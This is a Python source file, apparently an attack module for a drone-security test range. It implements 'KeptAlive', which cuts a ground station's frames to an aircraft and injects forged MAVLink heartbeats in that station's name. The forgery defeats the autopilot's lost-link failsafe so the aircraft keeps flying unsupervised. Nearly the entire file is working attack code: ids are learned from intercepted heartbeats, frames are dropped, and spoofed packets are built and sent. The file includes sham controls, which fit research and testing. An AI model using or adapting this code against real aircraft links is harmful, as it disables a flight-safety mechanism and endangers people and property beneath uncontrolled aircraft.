"""Heartbeats in the name of a ground station that was cut off, so that no failsafe acts."""

from __future__ import annotations

import skyrange.plugin as sky
from skyrange.attack.bases.shams import benign_payload
from skyrange.codec.mavlink import dialect as mav


@sky.attack(
    "identity.keep_alive",
    technique="T0848",
    effect="the aircraft flies on without supervision, because its failsafe does not notice the lost station",
    knowledge="the system id of the ground station, which its heartbeats tell",
    equipment="a computer that filters frames and sends MAVLink",
    budget="a frame of 21 bytes per heartbeat",
    load="the sham: the same cut, with frames of the same length in the station's name that are no heartbeats",
    content="the same attack with cut = false",
    placement="the same attack on the link of another aircraft",
)
class KeptAlive(sky.InjectionOnLinks):
    """Cuts off the ground station and sends heartbeats in its name.

    The frames of the sham have the same sender and length, and no receiver acts on them: the failsafe for a lost
    station counts heartbeats (GCS_Common.cpp, `handle_heartbeat`).
    """

    cut: bool = sky.param("Whether it drops frames to the aircraft; else something else has to cut them.", default=True)
    every_s: sky.Number = sky.param("Time between two heartbeats, in seconds.", default=1.0, ge=0.1, le=60)
    system: sky.Whole | None = sky.param(
        "System id in the heartbeats; default: that of the last one that passed, 255 before.",
        default=None,
        ge=1,
        le=255,
    )

    def find_problems(self) -> sky.Problems:
        if self.place == "air" and self.cut:
            yield sky.Problem("cut", "true", "false for place 'air': a radio beside the link holds no frame")

    def begin(self) -> None:
        super().begin()
        self.packer.system = self.system or self.packer.system

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Drop what goes to the aircraft; learn the station's ids from its heartbeats."""
        payload = frame.payload
        if frame.direction != "fwd":
            return ()
        if sky.message_id(payload) == mav.MAVLINK_MSG_ID_HEARTBEAT and payload[0] == mav.PROTOCOL_MARKER_V2:
            if self.system is None:
                self.packer.system = payload[5]
            self.packer.component = payload[6]
        return (sky.Drop(),) if self.cut and now >= self.schedule.start_ns else ()

    def send(self, now: sky.Time) -> sky.Verdicts:
        beat = mav.MAVLink_heartbeat_message(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, mav.MAV_STATE_ACTIVE, 3)
        payload = self.packer.pack(beat)
        return [self.inject(benign_payload(payload) if self.sham else payload)]
